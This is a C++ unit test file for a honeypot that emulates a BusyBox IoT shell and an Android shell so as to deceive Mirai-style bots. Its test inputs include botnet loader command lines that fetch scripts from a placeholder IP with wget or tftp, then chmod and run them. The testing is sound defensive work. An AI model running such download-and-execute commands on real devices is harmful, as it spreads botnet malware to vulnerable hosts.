#include "honeypot/pretended_shell.hpp"

#include <gtest/gtest.h>

#include <set>

namespace nightjar {
namespace {

constexpr std::int64_t kNow = 1'700'000'000;

class Shell : public ::testing::Test {
 protected:
  std::string run(std::string_view line) {
    std::string out;
    shell_.run(line, kNow, out);
    return out;
  }
  Persona persona_{budget::Secret{11, 12}};
  PretendedShell shell_{persona_, false};
};

TEST_F(Shell, AppletsThatAreNot) {
  for (const std::string token : {"MIRAI", "ECCHI", "OKIRU", "SATORI", "wgot"})
    EXPECT_EQ(run("/bin/busybox " + token), token + ": applet not found\n");
  EXPECT_EQ(run("enable"), "-sh: enable: not found\n");
}

TEST_F(Shell, ListsFollowTheirConditions) {
  EXPECT_EQ(run("true && echo a || echo b"), "a\n");
  EXPECT_EQ(run("false && echo a || echo b"), "b\n");
  EXPECT_EQ(run("cd /nowhere 2>/dev/null || cd /tmp; pwd"), "-sh: cd: can't cd to /nowhere\n/tmp\n");
  EXPECT_EQ(run("sh -c 'echo a; echo b'"), "a\nb\n");
}

/// The way of Mirai's loader: written, read back, removed.
TEST_F(Shell, FilesAreWhereTheyWereWritten) {
  EXPECT_EQ(
      run("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon"),
      "kami/tmp\n");
  EXPECT_EQ(run("cat /tmp/.nippon"), "cat: can't open '/tmp/.nippon': No such file or directory\n");
}

TEST_F(Shell, OnlyWritableFoldersAreWrittenTo) {
  EXPECT_EQ(run("echo x > /bin/x"), "-sh: can't create /bin/x: Read-only file system\n");
  EXPECT_EQ(run("cd /tmp && >x && echo yes"), "yes\n");
}

TEST_F(Shell, MountsNameAWritableTmpfs) {
  const std::string mounts = run("cat /proc/mounts");
  EXPECT_NE(mounts.find("tmpfs /tmp tmpfs rw"), mounts.npos);
  EXPECT_EQ(run("cat /proc/mounts | grep squashfs"), "/dev/root / squashfs ro,relatime 0 0\n");
}

TEST_F(Shell, EchoIsAnExecutable) {
  const std::string image = run("cat /bin/echo");
  ASSERT_GE(image.size(), 52U) << "an ELF header of 32 bits";
  EXPECT_EQ(image.substr(0, 5), std::string("\x7f"
                                            "ELF\x01"));
  EXPECT_EQ(image.find_first_of("\n\xff"), image.npos) << "a terminal would change them";
  EXPECT_EQ(run("dd bs=52 count=1 if=/bin/echo"), image.substr(0, 52));
  EXPECT_EQ(run("cp /bin/echo /tmp/x; cat /tmp/x").substr(0, 52), image.substr(0, 52));
}

TEST_F(Shell, DownloadsSeemToWorkAndTheFileStarts) {
  EXPECT_NE(run("cd /tmp; wget http://198.51.100.7/a.sh").find("100%"), std::string::npos);
  EXPECT_EQ(run("chmod 777 a.sh; ./a.sh; sh a.sh"), "");
  EXPECT_EQ(run("./b.sh"), "-sh: ./b.sh: not found\n");
  EXPECT_EQ(run("tftp -g -l c -r c 198.51.100.7; ./c"), "");
}

TEST_F(Shell, WgetAndTftpAreThere) {
  for (const std::string_view line : {"/bin/busybox wget", "/bin/busybox tftp", "wget", "tftp"}) {
    EXPECT_EQ(run(line).find("not found"), std::string::npos) << line;
    EXPECT_NE(run(line).find("Usage"), std::string::npos) << line;
  }
}

TEST_F(Shell, MachineIsTheSameEverywhere) {
  const std::string machine = run("uname -m");
  EXPECT_NE(run("uname -a").find(machine.substr(0, machine.size() - 1)), std::string::npos);
  const auto image = run("cat /bin/busybox");
  EXPECT_EQ(image[18] == 40, machine.starts_with("arm"));
  EXPECT_EQ(run("cat /proc/cpuinfo").find("ARM926") != std::string::npos, machine.starts_with("arm"));
}

TEST_F(Shell, NothingGrowsWithoutBound) {
  for (int i = 0; i < 2'000; ++i) run("cd /tmp; echo " + std::string(400, 'x') + " > f" + std::to_string(i));
  std::string all;
  for (int i = 0; i < 2'000; ++i) all += "cat /proc/mounts;";
  EXPECT_LE(run(all).size(), PretendedShell::kMostOutput);
  std::string nested = "echo x";
  for (int i = 0; i < 10; ++i) nested = "sh -c \"" + nested + "\"";
  run(nested);
  run(std::string(100'000, '('));
}

TEST(AndroidShell, LooksLikeIt) {
  const Persona persona(budget::Secret{1, 1});
  PretendedShell shell(persona, true);
  std::string out;
  shell.run("cd /data/local/tmp && getprop ro.product.cpu.abi", kNow, out);
  EXPECT_EQ(out, "armeabi-v7a\n");
  EXPECT_NE(shell.prompt().find("/data/local/tmp"), std::string::npos);
}

TEST(Devices, SeedsDiffer) {
  std::set<std::string> hosts, processors;
  for (std::uint64_t seed = 0; seed < 40; ++seed) {
    const Device device(Persona(budget::Secret{seed, 0}), false);
    hosts.insert(device.host + device.kernel + device.busybox);
    processors.insert(std::to_string(static_cast<int>(device.processor)));
  }
  EXPECT_GT(hosts.size(), 20U);
  EXPECT_EQ(processors.size(), 3U);
}

}  // namespace
}  // namespace nightjar
